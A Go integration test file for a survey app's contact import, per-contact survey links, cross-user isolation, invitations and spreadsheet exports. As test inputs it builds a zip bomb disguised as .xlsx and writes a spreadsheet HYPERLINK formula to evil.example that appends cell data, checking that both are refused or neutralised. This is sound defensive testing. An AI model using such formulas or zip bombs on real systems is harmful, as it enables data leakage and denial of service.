package api_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"dwsurvey/config"
	"dwsurvey/internal/testenv"
	"dwsurvey/models"
)

// contactRow is one import row: account, name, email, phone, job title, initial password, group.
type contactRow [7]string

// contactSheet builds an .xlsx contact list with a header row; formulas maps a cell (C5)
// to a formula written there.
func contactSheet(t testing.TB, rows []contactRow, formulas map[string]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	_ = f.SetSheetRow("Sheet1", "A1", &[]any{"account", "name", "email", "phone", "job title", "initial password", "group"})
	for i, r := range rows {
		vals := make([]any, len(r))
		for j, v := range r {
			vals[j] = v
		}
		_ = f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+2), &vals)
	}
	for cell, fx := range formulas {
		if err := f.SetCellFormula("Sheet1", cell, fx); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// people makes n good rows p001.. with e-mails and passwords.
func people(n int, group string) []contactRow {
	out := make([]contactRow, n)
	for i := range out {
		a := fmt.Sprintf("person%03d", i+1)
		out[i] = contactRow{a, fmt.Sprintf("Person %d", i+1), a + "@example.org", fmt.Sprintf("139%08d", i+1), "Staff", "", group}
	}
	return out
}

type importResult struct {
	Rows   int `json:"rows"`
	Good   int `json:"good"`
	Bad    int `json:"bad"`
	Saved  int `json:"saved"`
	Errors []struct {
		Line    int      `json:"line"`
		Account string   `json:"account"`
		Reasons []string `json:"reasons"`
	} `json:"errors"`
	NewGroups []string `json:"newGroups"`
}

func importFile(t *testing.T, c *testenv.Client, name string, data []byte, confirm bool) (int, string, importResult) {
	t.Helper()
	v := map[string]string{"confirm": "0"}
	if confirm {
		v["confirm"] = "1"
	}
	env := c.Upload("app/contacts/import.do", "file", name, data, v).Env(t)
	var r importResult
	if env.ResultCode == 200 {
		_ = json.Unmarshal(env.Data, &r)
	}
	return env.ResultCode, env.ResultMsg, r
}

// An import previews every row and names each bad one with its reason; confirming saves
// only the good rows (195 of 200), creates the group named in the file, and a second import
// of the same file refuses every row as a duplicate.
func TestContactImportPreviewAndConfirm(t *testing.T) {
	both(t, testenv.Options{}, func(t *testing.T, e *testenv.Env) {
		e.CreateUser(t, "bookowner", "secret-pw", models.PermSurveyManage)
		c := e.Client(t, e.Login(t, "bookowner", "secret-pw"))
		rows := people(200, "Sales")
		rows[9][1] = ""                 // line 11: missing name
		rows[19][2] = "not-an-email"    // line 21: bad e-mail
		rows[29][3] = "12345"           // line 31: bad phone
		rows[39][0] = rows[38][0]       // line 41: duplicate account (also on line 40)
		rows[49][5] = "123"             // line 51: password too short
		rows[59][5] = "Initial-Pass-60" // a good row with an initial password
		data := contactSheet(t, rows, nil)
		before := testenv.Snapshot(t, e.DB)
		code, msg, pre := importFile(t, c, "people.xlsx", data, false)
		if code != 200 || pre.Rows != 200 || pre.Good != 195 || pre.Bad != 5 || pre.Saved != 0 || len(pre.Errors) != 5 {
			t.Fatalf("preview %d %q %+v", code, msg, pre)
		}
		want := map[int]string{11: "missing name", 21: "invalid e-mail", 31: "invalid phone", 41: "duplicate account (also on row 40)", 51: "initial password"}
		for _, er := range pre.Errors {
			if w, ok := want[er.Line]; !ok || !strings.Contains(strings.Join(er.Reasons, ";"), w) {
				t.Fatalf("row %d: %v (want %q)", er.Line, er.Reasons, w)
			}
		}
		if after := testenv.Snapshot(t, e.DB); after != before {
			t.Fatal("a preview changed the database")
		}
		_, _, done := importFile(t, c, "people.xlsx", data, true)
		if done.Saved != 195 || len(done.NewGroups) != 1 || done.NewGroups[0] != "Sales" {
			t.Fatalf("confirm %+v", done)
		}
		var list []struct {
			Account     string `json:"account"`
			GroupName   string `json:"groupName"`
			HasPassword bool   `json:"hasPassword"`
		}
		page := c.Get("app/contacts/list.do?keyword=person060&pageSize=10").Page(t, &list)
		if page.Total != 1 || list[0].GroupName != "Sales" || !list[0].HasPassword {
			t.Fatalf("person060: %+v %+v", page, list)
		}
		if n := c.Get("app/contacts/list.do?pageSize=10").Page(t, nil).Total; n != 195 {
			t.Fatalf("%d contacts listed", n)
		}
		_, _, again := importFile(t, c, "people.xlsx", data, false)
		if again.Good != 0 || again.Bad != 200 || !strings.Contains(again.Errors[0].Reasons[0], "already in the address book") {
			t.Fatalf("second import %+v", again.Errors[0])
		}
	})
}

// peakRSS is the process's high-water mark of resident memory (VmHWM, kB).
func peakRSS() string {
	b, _ := os.ReadFile("/proc/self/status")
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "VmHWM:") {
			return strings.TrimSpace(strings.TrimPrefix(l, "VmHWM:"))
		}
	}
	return "?"
}

// Bad files are refused with a clear message and store nothing: a formula (the row is
// refused, never evaluated), a zip bomb disguised as .xlsx, 100,000 rows, 6,000 rows, a CSV
// renamed .xlsx, an empty sheet. The test logs the process's peak RSS after each.
func TestContactImportBadFiles(t *testing.T) {
	e := testenv.NewServer(t, "sqlite", testenv.Options{})
	e.CreateUser(t, "badfiles", "secret-pw", models.PermSurveyManage)
	c := e.Client(t, e.Login(t, "badfiles", "secret-pw"))
	t.Logf("peak RSS at start: %s", peakRSS())

	formula := contactSheet(t, people(5, ""), map[string]string{"C3": "HYPERLINK(\"http://evil.example/\"&A3,\"x\")"})
	code, _, r := importFile(t, c, "formula.xlsx", formula, true)
	if code != 200 || r.Saved != 4 || r.Bad != 1 || r.Errors[0].Line != 3 || !strings.Contains(r.Errors[0].Reasons[0], "cell C3 holds a formula") {
		t.Fatalf("formula: %d %+v", code, r)
	}
	before := testenv.Snapshot(t, e.DB)

	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	for _, n := range []string{"[Content_Types].xml", "xl/workbook.xml"} {
		w, _ := zw.Create(n)
		_, _ = w.Write([]byte("<x/>"))
	}
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	zeros := make([]byte, 1<<20)
	for i := 0; i < 200; i++ { // 200 MB of zeros, ~200 KB compressed
		_, _ = w.Write(zeros)
	}
	_ = zw.Close()

	big := func(n int) []byte {
		f := excelize.NewFile()
		sw, _ := f.NewStreamWriter("Sheet1")
		for i := 1; i <= n; i++ {
			cell, _ := excelize.CoordinatesToCellName(1, i)
			_ = sw.SetRow(cell, []any{fmt.Sprintf("u%d", i), "N", ""})
		}
		_ = sw.Flush()
		var b bytes.Buffer
		_ = f.Write(&b)
		_ = f.Close()
		return b.Bytes()
	}
	empty := contactSheet(t, nil, nil)
	cases := []struct {
		name string
		data []byte
		msg  string
	}{
		{"bomb.xlsx", bomb.Bytes(), "unpacks to more than 8 MB"},
		{"100000.xlsx", big(100000), "more than"},
		{"6000.xlsx", big(6000), "more than 5000 rows"},
		{"list.xlsx", []byte("account,name,email\nann01,Ann,ann@example.org\n"), "not an Excel workbook"},
		{"empty.xlsx", empty, "no contact rows"},
		{"zero.xls", []byte{}, "the file is empty"},
	}
	runtime.GC()
	t.Logf("peak RSS with the bad files built: %s", peakRSS())
	for _, tc := range cases {
		var m0, m1 runtime.MemStats
		runtime.ReadMemStats(&m0)
		code, msg, _ := importFile(t, c, tc.name, tc.data, true)
		runtime.ReadMemStats(&m1)
		if code != 400 || !strings.Contains(msg, tc.msg) {
			t.Fatalf("%s (%d bytes): %d %q", tc.name, len(tc.data), code, msg)
		}
		t.Logf("%s (%d KB): %q; allocated %.1f MB (server and client), peak RSS %s", tc.name, len(tc.data)>>10, msg,
			float64(m1.TotalAlloc-m0.TotalAlloc)/(1<<20), peakRSS())
	}
	if after := testenv.Snapshot(t, e.DB); after != before {
		t.Fatal("a refused file changed the database")
	}
}

// contactSurvey publishes a contact-only survey (contactAttr) and returns its id and sid.
func contactSurvey(t *testing.T, owner *testenv.Client, contactAttr M) (string, string) {
	t.Helper()
	return publishDoc(t, owner, "survey", simpleDoc(M{"contactAttr": contactAttr}))
}

func contactAnswer(id, dwID, link string) M {
	aj, _ := json.Marshal(M{"answerCommon": M{"answerDwId": dwID, "anUser": M{"relateContactEsId": link}},
		"anQuestions": []M{anRadio("q1", "q1a1")}})
	return M{"surveyId": id, "jsonVersion": 6, "answerJson": string(aj)}
}

type bindRec struct {
	ID        string `json:"id"`
	Kind      string `json:"kind"`
	Account   string `json:"account"`
	State     string `json:"state"`
	Link      string `json:"link"`
	ContactID string `json:"contactId"`
}

// The contact restriction end to end: a group bound to a contact-only survey gets unique
// links (96 random bits); an anonymous visit is refused with 413 (login offer); an answer
// through a link is stored with that contact and marks it completed; a second answer over
// the per-contact limit is refused (412) and stores nothing; a contact logs in on the
// answer side and answers; a bound system user sees the survey in My tasks, then answered.
func TestContactOnlySurvey(t *testing.T) {
	both(t, testenv.Options{}, func(t *testing.T, e *testenv.Env) {
		e.CreateUser(t, "cowner", "secret-pw", models.PermSurveyManage, models.PermSurveyData)
		uid := e.CreateUser(t, "staffer1", "secret-pw")
		owner := e.Client(t, e.Login(t, "cowner", "secret-pw"))
		rows := people(3, "Team")
		rows[2][5] = "Contact-Pw-3"
		if code, msg, r := importFile(t, owner, "team.xlsx", contactSheet(t, rows, nil), true); code != 200 || r.Saved != 3 {
			t.Fatalf("import %d %q %+v", code, msg, r)
		}
		var groups []struct {
			ID    string `json:"id"`
			Name  string `json:"name"`
			Count int    `json:"count"`
		}
		owner.Get("app/contacts/group/list.do").OK(t, &groups)
		if len(groups) != 1 || groups[0].Count != 3 {
			t.Fatalf("groups %+v", groups)
		}
		id, sid := contactSurvey(t, owner, M{"enabled": true, "anNum": 1})
		var br struct{ Added, Already int }
		owner.Post("app/survey/bind/add.do", M{"surveyId": id, "groupIds": []string{groups[0].ID}, "userIds": []string{uid}}).OK(t, &br)
		if br.Added != 4 {
			t.Fatalf("bind %+v", br)
		}
		owner.Post("app/survey/bind/add.do", M{"surveyId": id, "groupIds": []string{groups[0].ID}}).OK(t, &br)
		if br.Added != 0 || br.Already != 3 {
			t.Fatalf("bind again %+v", br)
		}
		var binds []bindRec
		owner.Get("app/survey/bind/list.do?surveyId="+id+"&kind=contact&pageSize=10").Page(t, &binds)
		if len(binds) != 3 {
			t.Fatalf("binds %+v", binds)
		}
		seen := map[string]bool{}
		for _, b := range binds {
			if len(b.ID) != 24 || seen[b.ID] || !strings.HasSuffix(b.Link, "/v8/diaowen/an/"+sid+"/contacts/"+b.ID) || b.State != "unanswered" {
				t.Fatalf("bind record %+v", b)
			}
			seen[b.ID] = true
		}
		anon := e.Client(t, "")
		if d := load(t, anon, "sid="+sid); d.AnswerCheckResult.AnCheckResultCode != 413 || d.SurveyJSON != nil {
			t.Fatalf("anonymous load %+v", d.AnswerCheckResult)
		}
		expectSaveCode(t, anon, answerBody(id, newDwID(), []M{anRadio("q1", "q1a1")}, nil), 413)
		if d := load(t, anon, "sid="+sid+"&relateContactEsId=000000000000000000000000"); d.AnswerCheckResult.AnCheckResultCode != 413 {
			t.Fatalf("a made-up link: %+v", d.AnswerCheckResult)
		}
		// through the link of a contact without a password
		first := binds[0]
		if first.Account == "person003" {
			first = binds[1]
		}
		link := first.ID
		if d := load(t, anon, "sid="+sid+"&relateContactEsId="+link); d.AnswerCheckResult.AnCheckResultCode != 200 {
			t.Fatalf("link load %+v", d.AnswerCheckResult)
		}
		saved := expectSaveCode(t, anon, contactAnswer(id, newDwID(), link), 201)
		var a models.Answer
		e.DB.Take(&a, "id = ?", saved.DbAnswerID)
		if a.ContactID != first.ContactID {
			t.Fatalf("answer carries contact %q, want %q", a.ContactID, first.ContactID)
		}
		var rec struct {
			AnswerCommon struct {
				AnUser struct {
					RelateContactEsID string `json:"relateContactEsId"`
					DwEsContacts      struct {
						EsID  string `json:"esId"`
						Uname string `json:"uname"`
					} `json:"dwEsContacts"`
				} `json:"anUser"`
			} `json:"answerCommon"`
		}
		owner.Get(ans+"get-survey-answer.do?answerId="+saved.DbAnswerID).OK(t, &rec)
		if u := rec.AnswerCommon.AnUser; u.RelateContactEsID != link || u.DwEsContacts.EsID != first.ContactID || u.DwEsContacts.Uname == "" {
			t.Fatalf("anUser of the answer record %+v", u)
		}
		snap := answerSnapshot(t, e.DB)
		if d := load(t, anon, "sid="+sid+"&relateContactEsId="+link); d.AnswerCheckResult.AnCheckResultCode != 412 {
			t.Fatalf("second load %+v", d.AnswerCheckResult)
		}
		expectSaveCode(t, anon, contactAnswer(id, newDwID(), link), 412)
		if answerSnapshot(t, e.DB) != snap {
			t.Fatal("a refused second answer changed the answers")
		}
		owner.Get("app/survey/bind/list.do?surveyId="+id+"&state=completed").Page(t, &binds)
		if len(binds) != 1 || binds[0].ID != link || binds[0].State != "completed" {
			t.Fatalf("completed %+v", binds)
		}
		// a contact logs in on the answer side (the third one has a password)
		var lr struct {
			Status string `json:"status"`
			Type   string `json:"type"`
			Token  string `json:"token"`
		}
		anon.Post("anon/contact/login.do", M{"sid": sid, "userName": "person003", "password": "wrong-pw"}).JSON(t, &lr)
		if lr.Status != "error" {
			t.Fatalf("wrong password: %+v", lr)
		}
		anon.Post("anon/contact/login.do", M{"sid": sid, "userName": "person003", "password": "Contact-Pw-3"}).JSON(t, &lr)
		if lr.Status != "ok" || lr.Type != "contact" || !strings.HasPrefix(lr.Token, "ct_") {
			t.Fatalf("contact login %+v", lr)
		}
		ct := e.Client(t, lr.Token)
		saved = expectSaveCode(t, ct, answerBody(id, newDwID(), []M{anRadio("q1", "q1a2")}, nil), 201)
		a = models.Answer{}
		e.DB.Take(&a, "id = ?", saved.DbAnswerID)
		var c3 models.Contact
		e.DB.Take(&c3, "account = ?", "person003")
		if a.ContactID != c3.ID || !c3.Verified {
			t.Fatalf("logged-in answer contact %q (want %q), verified %v", a.ContactID, c3.ID, c3.Verified)
		}
		expectSaveCode(t, ct, answerBody(id, newDwID(), []M{anRadio("q1", "q1a2")}, nil), 412)
		// a system user: not bound -> 413; bound -> My tasks pending, then answered
		other := e.CreateUser(t, "stranger", "secret-pw")
		_ = other
		expectSaveCode(t, e.Client(t, e.Login(t, "stranger", "secret-pw")), answerBody(id, newDwID(), []M{anRadio("q1", "q1a1")}, nil), 413)
		staff := e.Client(t, e.Login(t, "staffer1", "secret-pw"))
		var tasks []struct {
			SurveyID   string `json:"surveyId"`
			SurveyName string `json:"surveyName"`
			Sid        string `json:"sid"`
			CreateTime string `json:"createTime"`
		}
		if p := staff.Get("app/task/task.do?pageSize=10&current=1").Page(t, &tasks); p.Total != 1 || tasks[0].Sid != sid || tasks[0].CreateTime == "" {
			t.Fatalf("pending %+v %+v", p, tasks)
		}
		expectSaveCode(t, staff, answerBody(id, newDwID(), []M{anRadio("q1", "q1a1")}, nil), 201)
		if p := staff.Get("app/task/task.do").Page(t, nil); p.Total != 0 {
			t.Fatalf("still pending after answering: %d", p.Total)
		}
		var answered []struct {
			ID, SurveyID, IPAddr, EndAnDate string
			SaveStatus                      int
		}
		if p := staff.Get("app/task/answer-surveys.do?saveStatus=0").Page(t, &answered); p.Total != 1 || answered[0].SurveyID != id || answered[0].EndAnDate == "" {
			t.Fatalf("answered %+v %+v", p, answered)
		}
		var mine []struct {
			ID, SurveyID, IPAddr, EndAnDate string
		}
		if p := staff.Get("app/my-answer/list.do").Page(t, &mine); p.Total != 1 || mine[0].ID == "" || mine[0].IPAddr == "" {
			t.Fatalf("my answers %+v %+v", p, mine)
		}
		var counts struct{ Total, Completed, Unanswered int }
		owner.Get("app/survey/bind/counts.do?surveyId="+id).OK(t, &counts)
		if counts.Total != 4 || counts.Completed != 3 || counts.Unanswered != 1 {
			t.Fatalf("counts %+v", counts)
		}
	})
}

// Another user's contacts, groups, bind records, links and distributions answer "not found";
// nothing of theirs changes.
func TestContactIsolation(t *testing.T) {
	e := testenv.NewServer(t, "sqlite", testenv.Options{})
	e.CreateUser(t, "alice1", "secret-pw", models.PermSurveyManage)
	e.CreateUser(t, "mallory", "secret-pw", models.PermSurveyManage)
	alice := e.Client(t, e.Login(t, "alice1", "secret-pw"))
	mal := e.Client(t, e.Login(t, "mallory", "secret-pw"))
	var g struct{ ID string }
	alice.Post("app/contacts/group/save.do", M{"name": "Board"}).OK(t, &g)
	var ct struct{ ID string }
	alice.Post("app/contacts/save.do", M{"account": "boardmember", "name": "B", "email": "b@example.org", "groupId": g.ID}).OK(t, &ct)
	id, _ := contactSurvey(t, alice, M{"enabled": true})
	alice.Post("app/survey/bind/add.do", M{"surveyId": id, "contactIds": []string{ct.ID}}).OK(t, nil)
	var binds []bindRec
	alice.Get("app/survey/bind/list.do?surveyId="+id).Page(t, &binds)
	before := testenv.Snapshot(t, e.DB)
	for _, r := range []*testenv.Response{
		mal.Post("app/contacts/save.do", M{"id": ct.ID, "account": "boardmember", "name": "Mallory"}),
		mal.Post("app/contacts/delete.do", M{"ids": []string{ct.ID}}),
		mal.Post("app/contacts/move.do", M{"ids": []string{ct.ID}}),
		mal.Post("app/contacts/group/save.do", M{"id": g.ID, "name": "Mine"}),
		mal.Post("app/contacts/group/delete.do", M{"id": g.ID}),
		mal.Get("app/survey/bind/list.do?surveyId=" + id),
		mal.Get("app/survey/bind/counts.do?surveyId=" + id),
		mal.Get("app/survey/bind/export.do?surveyId=" + id),
		mal.Post("app/survey/bind/delete.do", M{"surveyId": id, "ids": []string{binds[0].ID}}),
		mal.Post("app/survey/bind/add.do", M{"surveyId": id, "contactIds": []string{ct.ID}}),
		mal.Get("app/survey/invitation/list.do?surveyId=" + id),
		mal.Post("app/survey/invitation/send.do", M{"surveyId": id, "channel": "email"}),
	} {
		r.Refused(t, 404, "Not found")
	}
	// mallory's own survey cannot bind alice's contact or group either
	mid, _ := contactSurvey(t, mal, M{"enabled": true})
	mal.Post("app/survey/bind/add.do", M{"surveyId": mid, "contactIds": []string{ct.ID}}).Refused(t, 404, "")
	mal.Post("app/survey/bind/add.do", M{"surveyId": mid, "groupIds": []string{g.ID}}).Refused(t, 404, "")
	if p := mal.Get("app/contacts/list.do").Page(t, nil); p.Total != 0 {
		t.Fatalf("mallory lists %d contacts", p.Total)
	}
	if after := testenv.Snapshot(t, e.DB); after != before {
		t.Fatal("refused calls changed the database")
	}
	// alice's link does not open mallory's survey
	if d := load(t, e.Client(t, ""), "surveyId="+mid+"&relateContactEsId="+binds[0].ID); d.AnswerCheckResult.AnCheckResultCode != 413 {
		t.Fatalf("foreign link %+v", d.AnswerCheckResult)
	}
}

// Invitations need a configured channel: e-mail without mail.host and SMS (no provider yet)
// are refused with a clear message, and nothing is written.
func TestInvitationChannelsNotConfigured(t *testing.T) {
	e := testenv.NewServer(t, "sqlite", testenv.Options{})
	e.CreateUser(t, "sender1", "secret-pw", models.PermSurveyManage)
	c := e.Client(t, e.Login(t, "sender1", "secret-pw"))
	id, _ := contactSurvey(t, c, M{"enabled": true})
	before := testenv.Snapshot(t, e.DB)
	c.Post("app/survey/invitation/send.do", M{"surveyId": id, "channel": "email"}).Refused(t, 400, "E-mail is not configured")
	c.Post("app/survey/invitation/send.do", M{"surveyId": id, "channel": "sms"}).Refused(t, 400, "SMS is not configured")
	c.Post("app/survey/invitation/send.do", M{"surveyId": id, "channel": "fax"}).Refused(t, 400, "channel")
	var st struct {
		Channels map[string]bool `json:"channels"`
	}
	c.Get("app/survey/invitation/list.do?surveyId="+id).OK(t, &st)
	if st.Channels["email"] || st.Channels["sms"] {
		t.Fatalf("channels %+v", st.Channels)
	}
	if after := testenv.Snapshot(t, e.DB); after != before {
		t.Fatal("a refused distribution changed the database")
	}
}

// A legacy .xls workbook (LibreOffice writes it from an .xlsx) imports like an .xlsx: the
// rows are read, a formula cell refuses its row (never evaluated), the good rows are saved.
func TestContactImportXLS(t *testing.T) {
	soffice, err := testenv.SystemTool("soffice", "libreoffice-calc-nogui")
	testenv.Require(t, err)
	dir := t.TempDir()
	rows := people(12, "Legacy")
	in := dir + "/legacy.xlsx"
	if err := os.WriteFile(in, contactSheet(t, rows, map[string]string{"C4": "UPPER(A4)"}), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+dir+"/lo", "--convert-to", "xls", "--outdir", dir, in).CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	data, err := os.ReadFile(dir + "/legacy.xls")
	if err != nil {
		t.Fatal(err)
	}
	e := testenv.NewServer(t, "sqlite", testenv.Options{})
	e.CreateUser(t, "xlsowner", "secret-pw", models.PermSurveyManage)
	c := e.Client(t, e.Login(t, "xlsowner", "secret-pw"))
	code, msg, r := importFile(t, c, "legacy.xls", data, true)
	if code != 200 || r.Rows != 12 || r.Saved != 11 || r.Bad != 1 || r.Errors[0].Line != 4 || !strings.Contains(r.Errors[0].Reasons[0], "formula") {
		t.Fatalf("xls import %d %q %+v", code, msg, r)
	}
	var list []struct {
		Account, Phone, GroupName string
	}
	c.Get("app/contacts/list.do?keyword=person012").Page(t, &list)
	if len(list) != 1 || list[0].Phone != "13900000012" || list[0].GroupName != "Legacy" {
		t.Fatalf("read from .xls: %+v", list)
	}
}

// The exports are workbooks a spreadsheet opens safely: the contact list has the import
// header plus the verified flag, never a password, and text that would start a formula is
// made inert; the link list carries each bound person's personal link, the same as the
// bind list shows; another user's export holds none of it.
func TestContactExports(t *testing.T) {
	e := testenv.NewServer(t, "sqlite", testenv.Options{})
	e.CreateUser(t, "exporter", "secret-pw", models.PermSurveyManage)
	e.CreateUser(t, "other1", "secret-pw", models.PermSurveyManage)
	c := e.Client(t, e.Login(t, "exporter", "secret-pw"))
	other := e.Client(t, e.Login(t, "other1", "secret-pw"))
	var g struct{ ID string }
	c.Post("app/contacts/group/save.do", M{"name": "Sales"}).OK(t, &g)
	const evil = `=HYPERLINK("http://evil.example/","x")`
	c.Post("app/contacts/save.do", M{"account": "seller01", "name": "Seller", "email": "s1@example.org", "jobTitle": evil,
		"password": "Secret-pw-1", "groupId": g.ID}).OK(t, nil)
	c.Post("app/contacts/save.do", M{"account": "seller02", "name": "+Plus", "email": "s2@example.org", "groupId": g.ID}).OK(t, nil)

	sheet := func(r *testenv.Response) [][]string {
		t.Helper()
		if r.Status != 200 || !bytes.HasPrefix(r.Body, []byte("PK")) {
			t.Fatalf("not a workbook (HTTP %d): %.200s", r.Status, r.Body)
		}
		f, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, _ := f.GetRows(f.GetSheetName(0))
		for i, row := range rows {
			for j := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fx, _ := f.GetCellFormula(f.GetSheetName(0), cell); fx != "" {
					t.Fatalf("%s holds a formula %q", cell, fx)
				}
			}
		}
		return rows
	}
	rows := sheet(c.Get("app/contacts/export.do?groupId=" + g.ID))
	if len(rows) != 3 || rows[0][0] != "account" || rows[0][1] != "name" {
		t.Fatalf("contact export %q", rows)
	}
	byAccount := map[string][]string{}
	for _, r := range rows[1:] {
		byAccount[r[0]] = r
		if strings.Contains(strings.Join(r, "|"), "Secret-pw-1") {
			t.Fatalf("a password was exported: %q", r)
		}
	}
	if got := byAccount["seller01"][4]; got != "'"+evil {
		t.Fatalf("job title exported as %q, want it neutralised", got)
	}
	if got := byAccount["seller02"][1]; got != "'+Plus" {
		t.Fatalf("name exported as %q", got)
	}
	if rows := sheet(other.Get("app/contacts/export.do")); len(rows) != 1 {
		t.Fatalf("another user's export holds %d rows", len(rows)-1)
	}

	id, _ := contactSurvey(t, c, M{"enabled": true})
	c.Post("app/survey/bind/add.do", M{"surveyId": id, "groupIds": []string{g.ID}}).OK(t, nil)
	var binds []bindRec
	c.Get("app/survey/bind/list.do?surveyId="+id).Page(t, &binds)
	links := sheet(c.Get("app/survey/bind/export.do?surveyId=" + id))
	all := ""
	for _, r := range links[1:] {
		all += strings.Join(r, "|") + "\n"
	}
	if len(links) != 3 || len(binds) != 2 {
		t.Fatalf("link export %q, bind list %+v", links, binds)
	}
	for _, b := range binds {
		if b.Link == "" || !strings.Contains(b.Link, "/contacts/"+b.ID) || !strings.Contains(all, b.Link) {
			t.Fatalf("link %q of %s not in the export:\n%s", b.Link, b.Account, all)
		}
	}
}

// Another user can neither see, stop nor bring forward the invitations of a survey that is
// not theirs, not even through a survey of their own: 404, nothing changes.
func TestInvitationIsolation(t *testing.T) {
	e := testenv.NewServer(t, "sqlite", testenv.Options{Config: func(c *config.Config) {
		c.Mail = config.MailConfig{Host: "127.0.0.1", Port: 2525, From: "survey@example.org", PerMinute: 60}
	}})
	e.CreateUser(t, "inviter", "secret-pw", models.PermSurveyManage)
	e.CreateUser(t, "mallory2", "secret-pw", models.PermSurveyManage)
	alice := e.Client(t, e.Login(t, "inviter", "secret-pw"))
	mal := e.Client(t, e.Login(t, "mallory2", "secret-pw"))
	var ct struct{ ID string }
	alice.Post("app/contacts/save.do", M{"account": "guest01", "name": "G", "email": "g@example.org"}).OK(t, &ct)
	id, _ := contactSurvey(t, alice, M{"enabled": true})
	alice.Post("app/survey/bind/add.do", M{"surveyId": id, "contactIds": []string{ct.ID}}).OK(t, nil)
	var dist struct{ ID string }
	alice.Post("app/survey/invitation/send.do", M{"surveyId": id, "channel": "email", "reminders": 1, "remindEveryHours": 24}).OK(t, &dist)
	mid, _ := contactSurvey(t, mal, M{"enabled": true})
	before := testenv.Snapshot(t, e.DB)
	for _, sid := range []string{id, mid} {
		mal.Post("app/survey/invitation/stop.do", M{"surveyId": sid, "id": dist.ID}).Refused(t, 404, "Not found")
		mal.Post("app/survey/invitation/remind.do", M{"surveyId": sid, "id": dist.ID}).Refused(t, 404, "Not found")
	}
	var mine struct {
		Items []struct{ ID string } `json:"items"`
	}
	mal.Get("app/survey/invitation/list.do?surveyId="+mid).OK(t, &mine)
	if len(mine.Items) != 0 {
		t.Fatalf("mallory sees %d distributions", len(mine.Items))
	}
	if after := testenv.Snapshot(t, e.DB); after != before {
		t.Fatal("refused calls changed the database")
	}
	// the owner can stop it
	alice.Post("app/survey/invitation/stop.do", M{"surveyId": id, "id": dist.ID}).OK(t, nil)
}
